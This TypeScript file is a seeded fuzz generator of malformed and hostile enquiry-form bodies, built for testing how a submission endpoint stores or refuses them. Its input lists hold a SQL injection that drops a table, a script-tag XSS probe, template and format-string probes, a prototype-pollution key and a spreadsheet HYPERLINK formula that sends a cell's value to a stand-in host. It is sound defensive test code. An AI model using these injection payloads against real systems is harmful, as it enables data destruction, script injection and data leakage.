import { fields, largestBody } from "../../contract/submission.ts";
import { randomNumbers } from "../test-sites/random-numbers.ts";

export type MalformedBody = {
  body: Uint8Array<ArrayBuffer>;
  headers: Record<string, string>;
  /** What must be stored; undefined when the body must be refused. */
  stored?: Texts;
};
type Texts = Record<string, string>;

/** Endless malformed and hostile enquiries, the same ones for the same seed. Each that must be stored has a name of its own. */
export function* malformedBodies(seed: number): Generator<MalformedBody> {
  const random = randomNumbers(seed);
  const below = (limit: number) => Math.floor(random() * limit);
  const pick = <T>(list: readonly T[]): T => list[below(list.length)] as T;
  const text = () => {
    const length = below(200) === 0 ? below(200_000) : below(200);
    return pick([
      () => pick(["=1+1", "+91 98765 43210", '=HYPERLINK("https://x.example/?"&A1)', "\t=1", "1/2", "", " ", "\u200b"]),
      () => pick(["'; DROP TABLE enquiries; --", "<script>alert(1)</script>", "{{7*7}}", "%s%n"]),
      () => String.fromCharCode(...Array.from({ length: length % 200 }, () => below(65_536))),
      () => pick(["अदिति ", "🙏🏽", "a\u0301", "\u202e", "\r\n", "\0", "\uFEFF", "\ud83d"]).repeat(length),
    ])();
  };
  for (let number = 0; ; number++) {
    const texts = Object.fromEntries(fields.enquiry.map((name) => [name, text()]));
    texts.name = `${number} ${texts.name}`;
    const { body, type = "text/plain;charset=UTF-8", stored } = pick(shapes)(texts, number);
    const bytes = typeof body === "string" ? new TextEncoder().encode(body) : body;
    const fits = stored && bytes.length <= largestBody;
    yield { body: bytes, headers: type ? { "Content-Type": type } : {}, ...(fits ? { stored } : {}) };
  }
}

type Shape = { body: string | Uint8Array<ArrayBuffer>; type?: string; stored?: Texts };

const json = (value: unknown) => JSON.stringify(value);
const form = "application/x-www-form-urlencoded";

const shapes: readonly ((texts: Texts, number: number) => Shape)[] = [
  (texts) => ({ body: json(texts), stored: texts }),
  (texts) => ({ body: json(texts), type: "image/png", stored: texts }),
  (texts) => ({ body: `\uFEFF \n${json({ ...texts, __proto__: 1, extra: [texts] })}`, stored: texts }),
  (texts) => ({ body: json({ ...texts, suspect: true }), type: "", stored: texts }),
  // A browser writes a lone surrogate as U+FFFD and each line end as CRLF, which the receiver takes back.
  (texts) => ({
    body: new URLSearchParams(texts).toString(),
    type: form,
    stored: Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, text.replaceAll("\r\n", "\n")])),
  }),
  (texts) => ({ body: json({ ...texts, mobile: undefined }) }),
  (texts, number) => ({ body: json({ ...texts, email: [null, 5, {}, [texts.email], true][number % 5] }) }),
  (texts) => ({ body: json([texts]) }),
  (texts) => ({ body: json(texts).slice(0, -1) }),
  // Bytes that are not UTF-8.
  (texts) => ({ body: new TextEncoder().encode(json(texts)).fill(0xff, 10, 11) }),
  (_, number) => ({ body: "[".repeat(number % 100_000) }),
  (_, number) => ({ body: ["", " ", "null", "5", '"text"', "name=Asha"][number % 6] ?? "" }),
  (texts) => ({ body: json(texts), type: "multipart/form-data; boundary=x" }),
  (_, number) => ({ body: number % 20 === 0 ? "x".repeat(largestBody + 1) : "\0" }),
];
